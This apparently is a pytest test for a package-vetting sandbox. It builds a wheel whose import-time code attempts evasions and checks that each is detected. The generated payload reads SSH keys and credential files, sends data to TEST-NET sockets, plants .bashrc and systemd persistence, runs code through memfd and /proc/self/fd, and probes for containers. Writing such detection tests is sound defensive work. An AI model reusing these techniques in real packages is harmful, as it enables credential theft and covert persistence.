"""Red-team evasions (issue 11) end to end: a randomised, defanged wheel whose import
tries every evasion; ``pkgsandbox vet`` must judge each one.  Destinations are TEST-NET
addresses (the sinkhole answers inside the sandbox); nothing outside /tmp and the
sandbox's honey HOME is touched, nothing of the host's is deleted."""

from __future__ import annotations

import secrets
import textwrap
from pathlib import Path

import pytest

from sandbox.models import Phase, Report, Severity
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel

pytestmark = [pytest.mark.usefixtures("sandbox_image", "no_leaks"), pytest.mark.slow]


def probe_source(r: Randomised, wheel: str, t: str) -> dict[str, object]:
    """The import-time payload and the values it was randomised with."""
    v = {
        "cred1": r.credential(),
        "cred2": r.credential(),
        "host1": r.address(),
        "port1": r.port(),
        "host2": r.address(),
        "port2": r.port(),
        "drop": f"/tmp/{t}d",
        "fill": f"/tmp/{t}f.bin",
        "hlink": f"/tmp/{t}h",
        "klink": f"/tmp/{t}k",
        "script": f"/tmp/{t}s.sh",
        "unit": f"{t}.service",
    }
    payload = (
        "import os,socket\n"
        "try: open(os.path.expanduser('~/{cred}'),'rb').read()\n"
        "except OSError: pass\n"
        "s=socket.socket();s.settimeout(1)\n"
        "try: s.connect(('{host}',{port})); s.sendall(b'\\\\x8f enc')\n"
        "except OSError: pass\n"
    )
    p1 = payload.format(cred=v["cred1"], host=v["host1"], port=v["port1"])
    p2 = payload.format(cred=v["cred2"], host=v["host2"], port=v["port2"])
    src = textwrap.dedent(
        f"""\
        import ctypes, os, subprocess, sys
        HOME = os.path.expanduser("~")
        PY = sys.executable

        def q(f):
            try:
                f()
            except Exception as exc:
                sys.stderr.write(f"probe {{f.__name__}}: {{exc!r}}\\n")

        def h1_setpriv():
            subprocess.Popen(["setpriv", "-c", {p1!r}, "--no-new-privs", "--bounding-set=-all"],
                             executable=sys.executable).wait(10)

        def h1_pip():
            os.makedirs("/tmp/{t}lk/pip", exist_ok=True)
            open("/tmp/{t}lk/pip/__init__.py", "w").close()
            with open("/tmp/{t}lk/pip/__main__.py", "w") as fh:
                fh.write({p2!r})
            argv = [PY, "-m", "pip", "install", "--no-index", "--find-links", "/stage/artifacts",
                    "--no-cache-dir", "--disable-pip-version-check", "--no-input", "--progress-bar", "off",
                    "/stage/artifacts/{wheel}"]
            subprocess.run(argv, cwd="/tmp/{t}lk", timeout=20)

        def h2_write_exec():
            data = open("/bin/true", "rb").read()
            fd = os.open("{v["drop"]}", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
            os.write(fd, data)
            os.close(fd)
            subprocess.run(["{v["drop"]}"], timeout=5)

        def h3_paths():
            open("/proc/self/cwd/../.ssh/id_rsa", "rb").read()
            os.symlink(HOME, "{v["hlink"]}")
            with open("{v["hlink"]}/.bashrc", "a") as fh:
                fh.write("# probe\\n")
            os.makedirs("/proc/self/cwd/../.config/systemd/user", exist_ok=True)
            with open("/proc/self/cwd/../.config/systemd/user/{v["unit"]}", "w") as fh:
                fh.write("[Service]\\nExecStart=/bin/true\\n")
            os.symlink(HOME + "/.ssh/id_rsa", "{v["klink"]}")

        def h4_exec():
            fd = os.open("/bin/sh", os.O_RDONLY)
            subprocess.run([f"/proc/self/fd/{{fd}}", "-c", "exit 0"], pass_fds=(fd,), timeout=5)
            m = os.memfd_create("{t}", 0)
            os.write(m, open("/bin/true", "rb").read())
            pid = os.fork()
            if pid == 0:
                try:
                    os.execve(m, ["{t}"], {{}})
                finally:
                    os._exit(1)
            os.waitpid(pid, 0)
            with open("{v["script"]}", "w") as fh:
                fh.write("#!/bin/sh\\nexit 0\\n")
            os.chmod("{v["script"]}", 0o755)
            subprocess.run(["{v["script"]}"], timeout=5)

        def probes():
            open("/proc/self/status").read()
            os.path.exists("/.dockerenv")
            open("/proc/1/cgroup").read()
            ctypes.CDLL(None, use_errno=True).ptrace(0, 0, None, None)

        def h2_fill():
            fd = os.open("{v["fill"]}", os.O_WRONLY | os.O_CREAT, 0o644)
            try:
                for _ in range(40):
                    os.write(fd, b"\\0" * (32 << 20))
            except OSError:
                pass
            finally:
                os.close(fd)
                os.unlink("{v["fill"]}")

        for f in (h1_setpriv, h1_pip, h2_write_exec, h3_paths, h4_exec, probes, h2_fill):
            q(f)
        """
    )
    return {"src": src, **v}


def evidence(report: Report, rule: str) -> list[tuple[int, str | None, str | None]]:
    return [
        (e.pid, e.path, e.destination)
        for f in report.findings
        if f.rule_id == rule and f.phase is Phase.IMPORT
        for e in f.evidence
    ]


def test_every_evasion_is_judged(tmp_path: Path) -> None:
    r = Randomised()
    name = r.name("rt")
    wheel = f"{name}-1.0-py3-none-any.whl"
    t = secrets.token_hex(3)
    v = probe_source(r, wheel, t)
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": str(v["src"])})
    assert whl.name == wheel
    code, report = run_cli(tmp_path, str(whl), "--window", "10", "--module-timeout", "90")
    assert report is not None and code == 1
    ran = {p.phase: p.status.value for p in report.phases}
    assert ran.get(Phase.IMPORT) == "ok", (ran, [(f.rule_id, f.message) for f in report.findings])
    home = "/home/dev"
    cred = evidence(report, "PS001")
    outbound = {d for _, _, d in evidence(report, "PS002")}
    # H1: the setpriv look-alike and the look-alike pip are candidate code, judged
    assert f"{home}/{v['cred1']}" in {p for _, p, _ in cred}
    assert f"{home}/{v['cred2']}" in {p for _, p, _ in cred}
    assert {f"{v['host1']}:{v['port1']}", f"{v['host2']}:{v['port2']}"} <= outbound
    # H2: under the allowed /tmp/**
    assert any(p == v["drop"] for _, p, _ in evidence(report, "PS004"))
    assert any(p == v["fill"] for _, p, _ in evidence(report, "PS026"))
    # H3: through /proc/self/cwd, a /tmp symlink, a link to a credential
    assert f"{home}/.ssh/id_rsa" in {p for _, p, _ in cred}
    assert f"{v['klink']} -> {home}/.ssh/id_rsa" in {p for _, p, _ in cred}
    persist = {p for _, p, _ in evidence(report, "PS005")}
    assert {f"{home}/.bashrc", f"{home}/.config/systemd/user/{v['unit']}"} <= persist
    # H4: exec through an fd or memfd, and a #! script's shell
    fd_exec = {p for _, p, _ in evidence(report, "PS029")}
    assert any(p and p.startswith("/proc/self/fd/") for p in fd_exec) and f"/memfd:{t}" in fd_exec
    assert any(p == v["script"] for _, p, _ in evidence(report, "PS003"))
    # 7: the probes, and the raise they give the rest
    probe = next(f for f in report.findings if f.rule_id == "PS030")
    assert probe.severity is Severity.MEDIUM
    assert {"/.dockerenv", "/proc/1/cgroup"} <= {e.path for e in probe.evidence}
    # (the calls' own connects are LOW context: the import beacon fires again in their interpreter)
    assert all(
        f.severity is Severity.CRITICAL
        for f in report.findings
        if f.rule_id in ("PS002", "PS029") and f.phase is not Phase.EXECUTE
    )
    # harness events stay in the report, labelled
    assert any(e.origin.value == "harness" for e in report.events)
